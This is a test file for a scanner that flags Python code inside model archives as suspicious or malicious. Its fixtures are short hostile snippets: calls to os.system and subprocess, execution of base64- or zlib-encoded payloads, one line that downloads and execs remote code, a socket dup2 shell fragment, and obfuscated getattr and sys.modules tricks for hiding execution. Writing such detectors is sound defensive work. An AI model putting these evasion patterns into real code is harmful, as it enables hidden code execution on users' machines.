import { describe, expect, it } from "vitest";
import { OTHER_INTERPRETERS } from "../other-models.ts";
import { inspectBytes, latin1 } from "../testing/inspect-bytes.ts";
import { zipOf } from "../testing/zip-of.ts";

const archived = async (code: string, name = "handler.py") => {
  const { verdict, findings } = await inspectBytes(zipOf([[name, latin1(code)]]), "model.zip");
  return {
    verdict,
    calls: findings.flatMap(({ call }) => (call === undefined ? [] : [call.callable])),
    rules: findings.map(({ rule }) => rule),
  };
};
const alone = async (code: string, name: string) => {
  const { verdict, formats, findings } = await inspectBytes(latin1(code), name, { interpreters: OTHER_INTERPRETERS });
  return { verdict, formats, rules: findings.map(({ rule }) => rule) };
};

describe("Python code in an archive", () => {
  it("is suspicious whatever it does: it must be read", async () => {
    expect(await archived("import math\ndef handle(data, context):\n    return math.sqrt(2)\n")).toEqual({
      verdict: "suspicious",
      calls: [],
      rules: ["archive-code"],
    });
    expect(await archived("x = 1\n", "notes.py")).toMatchObject({ verdict: "suspicious" });
    expect(await archived("from os import path\n", "no-ending")).toMatchObject({ verdict: "suspicious" });
  });

  it("is malicious where importing it runs programs, under any name", async () => {
    for (const [code, name] of [
      ["import os\nos.system('id')", "os.system"],
      ["from os import system as f\nf('id')", "os.system"],
      ["import subprocess as s\ns.Popen(['sh'])", "subprocess.Popen"],
      ["__import__('os').system('id')", "os.system"],
      ["import importlib\nimportlib.import_module('os').popen('id')", "os.popen"],
      ["getattr(__import__('os'), 'system')('id')", "os.system"],
      ["import os\nrun = os.system\nrun('id')", "os.system"],
      ["import os\nclass A:\n    x = os.popen('id')", "os.popen"],
      ["import os\ndef f(a=os.system('id')):\n    pass", "os.system"],
      ["import os\ndef go():\n    os.system('id')\ngo()", "os.system"],
      ["import base64\nexec(base64.b64decode('aWQ='))", "exec"],
      ["import zlib, marshal\nexec(marshal.loads(zlib.decompress(b'x')))", "exec"],
      ["import urllib.request\nexec(urllib.request.urlopen('http://h').read())", "exec"],
      ["import os\n[os.system(c) for c in ['id']]", "os.system"],
      ["import os\nif True:\n    try:\n        os.system('id')\n    except Exception:\n        pass", "os.system"],
      ["import os\ngetattr(os, 'sys' + 'tem')('id')", "os.system"],
      ["import os\ngetattr(os, ''.join(['sys', 'tem']))('id')", "os.system"],
      ["import os\nn = input()\ngetattr(os, n)('id')", "os.<computed>"],
      ["import os\nvars(os)['system']('id')", "os.system"],
      ["import os\nos.__dict__['system']('id')", "os.system"],
      ["import sys\nsys.modules['os'].system('id')", "os.system"],
      ["import os\nlist(map(os.system, ['id']))", "os.system"],
      ["import os, atexit\natexit.register(os.system, 'id')", "os.system"],
      ["import os, threading as t\nt.Thread(target=os.system, args=['id']).start()", "os.system"],
      ["import os\n@os.system\ndef f():\n    pass", "os.system"],
      ["import base64\ncode = base64.b64decode('aWQ=')\nexec(code)", "exec"],
      ["import base64\n__builtins__['exec'](base64.b64decode('aWQ='))", "exec"],
      ["import builtins, base64\nbuiltins.exec(base64.b64decode('aWQ='))", "exec"],
      ["import os\ndef a():\n    os.system('id')\ndef b():\n    a()\nb()", "os.system"],
      ["import socket, os\ns = socket.socket()\nos.dup2(s.fileno(), 0)", "os.dup2"],
    ] as const)
      expect(await archived(code), code).toMatchObject({ verdict: "malicious", calls: expect.arrayContaining([name]) });
  });

  it("is malicious where the server's entry points run programs", async () => {
    expect(await archived("import os\nclass H:\n    def handle(self, d, c):\n        os.system('id')\n")).toMatchObject({
      verdict: "malicious",
    });
    expect(await archived("import os\nclass H:\n    def __reduce__(self):\n        return os.popen('id')\n")).toMatchObject({
      verdict: "malicious",
    });
  });

  it("is no more than suspicious where it is not known that it runs", async () => {
    for (const code of [
      "import os\ndef other():\n    os.system('id')\n",
      "import os\nif __name__ == '__main__':\n    os.system('id')\n",
      "eval('1 + 1')",
      "import requests\nrequests.get('http://h')",
      "this is no python (",
      "x = (((((((((",
    ])
      expect(await archived(code), code).toMatchObject({ verdict: "suspicious" });
  });

  it("does not fall over nesting", async () => {
    expect(await archived(`x = ${"(".repeat(20_000)}1${")".repeat(20_000)}\n`)).toMatchObject({ verdict: "suspicious" });
    expect(await archived(`import os\n${"if 1:\n ".repeat(1)}os.system('id')`)).toMatchObject({ verdict: "malicious" });
  });

  it("leaves TorchScript's own language to its reader", async () => {
    const code = "class M(Module):\n  __parameters__ = []\n  def forward(self: __torch__.M, x: Tensor) -> Tensor:\n    return x\n";
    expect((await archived(code, "model/code/__torch__.py")).rules).not.toContain("archive-code");
    expect((await archived("import os\n", "model/code/__torch__.py")).rules).toContain("archive-code");
  });
});

describe("Python source of its own", () => {
  it("is no model file", async () => {
    expect(await alone("import os\nos.system('id')\n", "train.py")).toEqual({ verdict: "benign", formats: [], rules: [] });
    expect(await alone("import torch\nclass M(torch.nn.Module):\n    pass\n", "modeling_mine.py")).toMatchObject({ verdict: "benign" });
  });
  it("is malicious where a loader imports it by its name and that harms", async () => {
    expect(await alone("import os\nos.system('id')\n", "modeling_mine.py")).toMatchObject({
      verdict: "malicious",
      rules: ["code-runs-programs"],
    });
    expect(
      await alone("import subprocess\nclass H:\n    def __call__(self):\n        subprocess.run(['ffmpeg'])\n", "handler.py"),
    ).toMatchObject({ verdict: "benign" });
  });
});
